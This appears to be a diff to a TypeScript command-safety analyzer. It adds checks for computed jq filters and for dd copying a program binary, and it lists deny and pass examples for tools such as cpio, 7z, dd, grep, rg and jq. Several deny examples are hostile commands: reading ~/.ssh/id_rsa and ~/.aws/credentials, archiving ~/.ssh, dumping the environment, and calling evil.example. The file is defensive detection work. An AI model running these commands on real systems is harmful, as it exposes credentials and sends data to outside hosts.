@@ -3,7 +3,7 @@ import type { Word, WordRole } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { known } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
-import { attached, isStdinPath, value } from '../words.js';
+import { attached, computedWhole, isStdinPath, value } from '../words.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -319,6 +319,8 @@ function jq(call: Call): Partial<Answer> {
   // `-f /dev/stdin <<< 'env'`: the filter is its stdin.
   const filter = fromFile ? (isStdinPath(value(fromFile.value) ?? '') && call.stdin?.kind === 'static' ? call.stdin.text : undefined) : value(p.operands[0]?.word);
   if (filter !== undefined && JQ_ENV.test(filter)) return { uses, stdin: 'data', dumps: `${call.name}'s filter reads the whole environment (env, $ENV)` };
+  // `jq "$x"`, `jq "$(cat f)"`: a whole filter computed may be `env` (a piece computed inside, `.[\"$k\"]`, is not).
+  if (!fromFile && computedWhole(p.operands[0]?.word)) return { uses, stdin: 'data', runs: [{ kind: 'opaque', rule: 'dynamic-script', word: p.operands[0]!.word, why: `${call.name}: the whole filter is computed (${p.operands[0]!.word.text}), and a filter may read the environment (env)` }] };
   // A filter file the line wrote is read as the filter on the line is: `env` there dumps the environment too.
   if (fromFile?.value && !isStdinPath(value(fromFile.value) ?? '')) {
     const via = `${call.name} -f`;
@@ -342,19 +344,22 @@ function remove(call: Call): Partial<Answer> {
 function dd(call: Call): Partial<Answer> {
   const uses: Uses = [];
   let input = false;
+  const inputs: Word[] = [];
   const outputs: Word[] = [];
   for (const a of call.args) {
     const v = value(a) ?? a.text;
     if (v.startsWith('if=')) {
       uses.push({ word: a, role: 'read', values: [v.slice(3)] });
+      inputs.push(attached(a, v.slice(3)));
       input = true;
     } else if (v.startsWith('of=')) {
       uses.push({ word: a, role: 'write', values: [v.slice(3)] });
       outputs.push(attached(a, v.slice(3)));
     } else uses.push({ word: a, role: 'text' });
   }
-  // With no if= it copies its stdin.
-  return input || outputs.length === 0 ? { uses } : { uses, stdinTo: outputs };
+  // `dd if=/usr/bin/curl of=x`: x is a copy of the program (run later as ./x). With no if= it copies its stdin.
+  if (input) return outputs.length === 1 && inputs.length === 1 ? { uses, copies: [{ from: inputs, to: outputs[0]!, dir: false }] } : { uses };
+  return outputs.length === 0 ? { uses } : { uses, stdinTo: outputs };
 }
 
 /** GNU patch's options. */
@@ -664,7 +669,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
-  { names: ['dd'], summary: 'dd: if= is read, of= is written', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
+  { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials'], pass: ['grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
   { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~'], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files'] } },
   { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ["echo env > a.jq; jq -n -f a.jq", 'jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "yq -i '.a = 1' ~/.bashrc"], pass: ["echo .a > a.jq; jq -f a.jq x.json", 'jq -f filter.jq x.json', "jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml"] } },
